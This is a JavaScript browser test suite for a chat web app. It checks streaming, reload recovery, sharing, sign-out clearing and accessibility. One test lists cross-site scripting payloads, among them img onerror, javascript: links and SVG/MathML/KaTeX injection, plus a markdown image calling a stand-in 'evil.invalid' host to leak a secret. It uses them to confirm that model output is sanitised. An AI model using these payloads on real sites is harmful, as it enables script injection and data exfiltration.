// The browser tests: real Chromium, real servers. One line of JSON for each case goes to stdout.
import AxeBuilder from './axe.mjs';
import { flat, openBrowser, openPage, PATIENCE, send, Server, sessionOf, shownReply, textOf, until } from './browser.mjs';
import { provider } from './provider.mjs';

const only = process.argv[2];
const browser = await openBrowser();
const vendor = await provider();
const server = await new Server({
  OPENAI_API_KEY: 'sk-test',
  OPENAI_BASE_URL: vendor.url,
  PERDURE_DEFAULT_MODEL: 'demo/demo',
}).start();
const REFUSED = /Failed to load resource/;

/** The reply as it is shown is that of the server. */
async function same(page, session = sessionOf(page), of = server, headers = undefined) {
  const stored = flat(await of.replyText(session, headers));
  await until('the page shows what the server has', async () => {
    const shown = flat(await shownReply(page));
    return shown === stored || (stored.length > 20_000 && shown.length === stored.length);
  }, 60_000).catch(async (error) => {
    throw new Error(`${error.message}\n shown:  ${flat(await shownReply(page)).slice(-200)}\n stored: ${stored.slice(-200)}`);
  });
  return stored;
}

async function grown(page, chars) {
  await until(`the reply has ${chars} characters`, async () => (await shownReply(page)).length >= chars);
}

async function fresh(of = server, more = {}) {
  const page = await openPage(browser, of.url, more);
  await page.getByRole('textbox', { name: 'Message', exact: true }).waitFor();
  return page;
}

async function done(...pages) {
  for (const page of pages) {
    if (page.problems.length > 0) {
      throw new Error(page.problems.join('\n'));
    }
    await page.close();
  }
}

const cases = {
  async a_message_is_typed_and_its_reply_streams_in() {
    const page = await fresh();
    await send(page, '/long 60');
    await grown(page, 20);
    await same(page);
    await done(page);
  },

  async a_reload_at_any_point_of_a_reply_loses_nothing() {
    const page = await fresh();
    await send(page, '/pace 15ms\n/long 150');
    for (const part of [0.1, 0.5, 0.99]) {
      await grown(page, part * 900);
      await page.reload();
    }
    await same(page);
    await done(page);
  },

  async a_closed_tab_finds_its_reply_done() {
    const context = await browser.newContext();
    const page = await fresh(server, { context });
    const session = await send(page, '/pace 10ms\n/long 80');
    await grown(page, 20);
    await done(page);
    const stored = await server.replyText(session);
    const again = await openPage(browser, `${server.url}/chat/${session}`, { context });
    if ((await same(again)) !== flat(stored)) {
      throw new Error('another text');
    }
    await done(again);
    await context.close();
  },

  async three_running_sessions_are_switched_between() {
    const page = await fresh();
    const sessions = [];
    for (let i = 0; i < 3; i++) {
      sessions.push(await send(page, `/pace 15ms\n/long ${100 + i}`));
      await page.getByRole('button', { name: 'New chat', exact: true }).click();
      await page.locator('.welcome').waitFor();
    }
    for (const session of [sessions[1], sessions[0], sessions[2], sessions[0], sessions[1]]) {
      await page.locator(`a[href="/chat/${session}"]`).click();
      await grown(page, 10);
    }
    for (const session of sessions) {
      await page.locator(`a[href="/chat/${session}"]`).click();
      await same(page, session);
    }
    await done(page);
  },

  async two_tabs_and_another_profile_see_one_reply_and_any_of_them_stops_it() {
    const context = await browser.newContext();
    const first = await fresh(server, { context });
    const session = await send(first, '/pace 20ms\n/long 2000');
    await grown(first, 50);
    const path = `${server.url}/chat/${session}`;
    const second = await openPage(browser, path, { context });
    const other = await openPage(browser, path);
    await grown(second, 100);
    await grown(other, 100);
    await second.getByRole('button', { name: 'Stop the reply' }).click();
    const stored = await server.replyText(session);
    for (const page of [first, second, other]) {
      await page.getByText('Stopped.', { exact: true }).waitFor();
      if ((await same(page, session)) !== flat(stored)) {
        throw new Error('another text');
      }
    }
    await done(first, second, other);
    await context.close();
  },

  async a_killed_server_is_started_again_in_mid_reply() {
    const own = await new Server().start();
    try {
      const page = await fresh(own, { allow: [REFUSED] });
      const session = await send(page, '/pace 15ms\n/long 150');
      await grown(page, 200);
      await own.kill();
      await own.start();
      await same(page, session, own);
      await done(page);
    } finally {
      await own.close();
    }
  },

  async offline_is_said_and_what_was_missed_comes_after_it() {
    const context = await browser.newContext();
    const page = await fresh(server, { context, allow: [REFUSED] });
    const session = await send(page, '/pace 15ms\n/long 120');
    await grown(page, 50);
    await context.setOffline(true);
    await page.getByText('You are offline').waitFor();
    await server.replyText(session);
    await context.setOffline(false);
    await same(page, session);
    await page.getByText('You are offline').waitFor({ state: 'detached' });
    await done(page);
    await context.close();
  },

  async of_compared_models_one_fails_and_is_retried() {
    const page = await fresh();
    await page.getByRole('button', { name: 'Compare' }).click();
    await page.getByRole('button', { name: /^Model 2/ }).click();
    await page.getByPlaceholder('provider/model').fill('openai/flaky');
    await page.getByRole('button', { name: 'Use' }).click();
    vendor.fail = true;
    const session = await send(page, '/long 40');
    const failed = page.locator('.card.failed');
    await failed.getByRole('button', { name: 'Try again' }).waitFor();
    await page.locator('.card.completed').waitFor();
    vendor.fail = false;
    await failed.getByRole('button', { name: 'Try again' }).click();
    await until('both are done', async () => (await page.locator('.card.completed').count()) === 2);
    const { items } = await server.json(`/v1/sessions/${session}/messages`);
    const stored = items.filter((each) => each.role === 'assistant').reverse().map(textOf);
    await until('both texts are those of the server', async () => flat(await shownReply(page)) === flat(stored.join('\n')));
    await done(page);
  },

  async a_draft_is_kept_and_a_refused_message_is_sent_again() {
    const context = await browser.newContext();
    const page = await fresh(server, { context, allow: [REFUSED] });
    const session = await send(page, 'Hello');
    await same(page);
    const box = page.getByRole('textbox', { name: 'Message', exact: true });
    await box.fill('not sent yet\nsecond line');
    await page.reload();
    await until('the draft is there', async () => (await box.inputValue()) === 'not sent yet\nsecond line');
    // The server says no, once.
    await page.route('**/turns', (route) =>
      route.fulfill({
        status: 400,
        contentType: 'application/problem+json',
        body: JSON.stringify({ type: 'x', title: 'No', status: 400, code: 'invalid_request', detail: 'Not today.', retryable: false }),
      }),
    );
    await box.press('Enter');
    await page.getByText('Not today.').waitFor();
    await page.unroute('**/turns');
    await page.getByRole('button', { name: 'Send again' }).click();
    await until('it is stored', async () => {
      const { items } = await server.json(`/v1/sessions/${session}/messages`);
      return items.filter((each) => each.role === 'user').length === 2;
    });
    await same(page, session);
    await done(page);
    await context.close();
  },

  async messages_are_edited_and_answered_again_as_branches() {
    const page = await fresh();
    const session = await send(page, '/echo first');
    await same(page);
    await page.getByRole('button', { name: 'Edit the message' }).click();
    await page.getByRole('textbox', { name: 'Edit the message' }).fill('/echo second');
    await page.getByRole('textbox', { name: 'Edit the message' }).press('Enter');
    await until('the second is answered', async () => /second/.test(await shownReply(page)));
    await same(page, session);
    await page.getByRole('button', { name: 'The one before' }).first().click();
    await until('the first is shown', async () => /first/.test(await shownReply(page)));
    await page.getByRole('button', { name: 'Answer again' }).click();
    await page.getByText('2/2').nth(1).or(page.getByText('2/2').first()).waitFor();
    await until('three turns', async () => {
      const { items } = await server.json(`/v1/sessions/${session}/messages`);
      return items.filter((each) => each.role === 'assistant' && each.status === 'complete').length === 3;
    });
    await done(page);
  },

  async a_question_of_the_model_is_answered_with_a_button() {
    const session = await server.json('/v1/sessions', { method: 'POST', body: '{}' });
    await server.json(`/v1/sessions/${session.id}/turns`, {
      method: 'POST',
      body: JSON.stringify({
        text: '/tool ask_user {"question":"Tea or coffee?","choices":["tea","coffee"]}',
        tools: ['ask_user'],
      }),
    });
    const page = await openPage(browser, `${server.url}/chat/${session.id}`);
    await page.locator('.question').getByText('Tea or coffee?').waitFor();
    await page.getByRole('button', { name: 'coffee', exact: true }).click();
    await same(page, session.id);
    await done(page);
  },

  async sessions_are_renamed_found_deleted_and_brought_back() {
    const context = await browser.newContext();
    const page = await fresh(server, { context });
    const session = await send(page, '/echo zebra crossing');
    await same(page);
    const row = page.locator('.session', { has: page.locator(`a[href="/chat/${session}"]`) });
    await row.hover();
    await row.getByRole('button').click();
    await page.getByRole('menuitem', { name: 'Rename' }).click();
    await page.getByRole('textbox', { name: 'Name of the chat' }).fill('Stripes');
    await page.keyboard.press('Enter');
    await row.getByText('Stripes').waitFor();
    await until('the name is stored', async () => (await server.json(`/v1/sessions/${session}`)).title === 'Stripes');
    await page.getByRole('searchbox').fill('stripe');
    await until('it is found', async () => (await page.locator('.session').count()) === 1);
    await page.getByRole('searchbox').fill('');
    await row.hover();
    await row.getByRole('button').click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    await page.getByRole('button', { name: 'Undo' }).click();
    await row.waitFor();
    await server.json(`/v1/sessions/${session}`);
    await done(page);
    await context.close();
  },

  async a_link_shows_the_same_stream_to_somebody_else_who_can_change_nothing() {
    const page = await fresh();
    const session = await send(page, '/pace 20ms\n/long 150');
    await grown(page, 50);
    await page.getByRole('button', { name: 'More', exact: true }).click();
    await page.getByRole('menuitem', { name: /Share/ }).click();
    await page.getByRole('button', { name: 'Make a link' }).click();
    const link = await page.getByRole('textbox', { name: 'The link' }).inputValue();
    const other = await openPage(browser, link);
    await grown(other, 100);
    if ((await other.getByRole('textbox').count()) > 0) {
      throw new Error('somebody else has a box to write in');
    }
    await same(other, session);
    await page.getByRole('button', { name: 'Revoke' }).click();
    await until('it is revoked', async () => (await server.json(`/v1/sessions/${session}/shares`)).items.length === 0);
    const late = await openPage(browser, link, { allow: [REFUSED] });
    await late.getByText('This link cannot be opened').waitFor();
    await page.getByRole('button', { name: 'Close', exact: true }).click();
    await same(page, session);
    await done(page, other, late);
  },

  async nothing_of_the_one_before_is_shown_after_a_sign_out() {
    const own = await new Server({
      PERDURE_API_KEYS: 'acme/ann:key-of-ann-0123456789,acme/bob:key-of-bob-0123456789',
    }).start();
    try {
      const page = await openPage(browser, own.url, { allow: [REFUSED] });
      const signIn = async (key) => {
        await page.getByPlaceholder('API key or token').fill(key);
        await page.getByRole('button', { name: 'Sign in' }).click();
        await page.getByRole('textbox', { name: 'Message', exact: true }).waitFor();
      };
      await signIn('key-of-ann-0123456789');
      const session = await send(page, '/echo a secret of ann');
      await same(page, session, own, { authorization: 'Bearer key-of-ann-0123456789' });
      await page.getByRole('button', { name: 'Settings' }).click();
      await page.getByRole('menuitem', { name: 'Sign out' }).click();
      await page.getByPlaceholder('API key or token').waitFor();
      const left = await page.evaluate(async () => {
        const stores = [];
        for (const { name } of await indexedDB.databases()) {
          const db = await new Promise((resolve, reject) => {
            const open = indexedDB.open(name);
            open.onsuccess = () => resolve(open.result);
            open.onerror = () => reject(open.error);
          });
          for (const store of db.objectStoreNames) {
            stores.push(
              await new Promise((resolve, reject) => {
                const all = db.transaction(store).objectStore(store).getAll();
                all.onsuccess = () => resolve(JSON.stringify(all.result));
                all.onerror = () => reject(all.error);
              }),
            );
          }
          db.close();
        }
        return stores.join() + JSON.stringify({ ...localStorage });
      });
      if (/secret of ann/.test(left)) {
        throw new Error(`left behind: ${left}`);
      }
      await signIn('key-of-bob-0123456789');
      await page.getByText('No chats yet.').waitFor();
      if (/secret of ann/.test(await page.locator('body').innerText())) {
        throw new Error('bob sees what ann wrote');
      }
      await done(page);
    } finally {
      await own.close();
    }
  },

  async ten_tabs_of_one_browser_share_its_connections() {
    const context = await browser.newContext();
    const first = await fresh(server, { context });
    const session = await send(first, '/pace 20ms\n/long 200');
    const tabs = await Promise.all(
      Array.from({ length: 9 }, () => openPage(browser, `${server.url}/chat/${session}`, { context })),
    );
    await Promise.all(tabs.map((tab) => grown(tab, 50)));
    await Promise.all([first, ...tabs].map((tab) => same(tab, session)));
    await done(first, ...tabs);
    await context.close();
  },

  async a_reply_of_50000_chunks_is_shown_whole() {
    const page = await fresh();
    await send(page, '/pace 0ms\n/long 50000');
    await same(page);
    await done(page);
  },

  async what_a_model_writes_cannot_act() {
    const page = await fresh();
    const attacks = [
      '<img src=x onerror="document.title=1">',
      '<script>document.title=1</script>',
      '[x](javascript:document.title=1)',
      '![x](https://evil.invalid/?q=secret)',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
      '$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$',
    ];
    const asked = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.evaluate(() =>
      localStorage.setItem('perdure.settings', JSON.stringify({ models: ['openai/echo'] })),
    );
    await page.reload();
    await send(page, attacks.join('\n\n'));
    await server.replyText(sessionOf(page));
    await page.locator('.reply math').first().waitFor();
    const bad = await page.locator('.reply').locator('img, script, iframe, svg a, [onerror], a[href^="javascript"]').count();
    if (bad > 0 || asked.some((url) => url.includes('evil'))) {
      throw new Error('something of it is alive');
    }
    await done(page);
  },

  async nothing_stands_in_the_way_of_people_who_use_other_means() {
    for (const options of [
      { colorScheme: 'light', viewport: { width: 1440, height: 900 } },
      { colorScheme: 'dark', viewport: { width: 360, height: 740 } },
    ]) {
      const context = await browser.newContext({ ...options, reducedMotion: 'reduce' });
      const page = await fresh(server, { context });
      const found = [...(await AxeBuilder(page))];
      await page.evaluate(() =>
        localStorage.setItem('perdure.settings', JSON.stringify({ models: ['openai/echo'] })),
      );
      await page.reload();
      await send(
        page,
        '**Bold** and `code`, a [link](https://a.example), $x^2$\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |',
      );
      await page.locator('.hljs-keyword').waitFor();
      await server.replyText(sessionOf(page));
      await page.locator('.facts').waitFor();
      found.push(...(await AxeBuilder(page)));
      await page.getByRole('button', { name: 'More', exact: true }).click();
      await page.getByRole('menuitem', { name: /Share/ }).click();
      found.push(...(await AxeBuilder(page)));
      await page.goto(`${server.url}/operator`);
      await page.getByText('Nodes').waitFor();
      found.push(...(await AxeBuilder(page)));
      const wide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
      if (found.length > 0 || wide) {
        throw new Error(`${JSON.stringify(options)} ${wide ? 'the page is wider than the window; ' : ''}${found.join('\n')}`);
      }
      await done(page);
      await context.close();
    }
  },
};

const AT_ONCE = 3;
const waiting = Object.entries(cases).filter(([name]) => only === undefined || name.includes(only));
let failures = 0;
async function work() {
  for (let next = waiting.shift(); next !== undefined; next = waiting.shift()) {
    const [name, run] = next;
    const began = Date.now();
    const said = { case: name };
    try {
      await run();
    } catch (error) {
      said.error = `${error.stack ?? error}`;
      failures++;
    }
    said.millis = Date.now() - began;
    process.stdout.write(`${JSON.stringify(said)}\n`);
  }
}
await Promise.all(Array.from({ length: AT_ONCE }, work));
await browser.close();
await server.close();
await vendor.close();
process.exit(failures > 0 && process.stdout.isTTY ? 1 : 0);
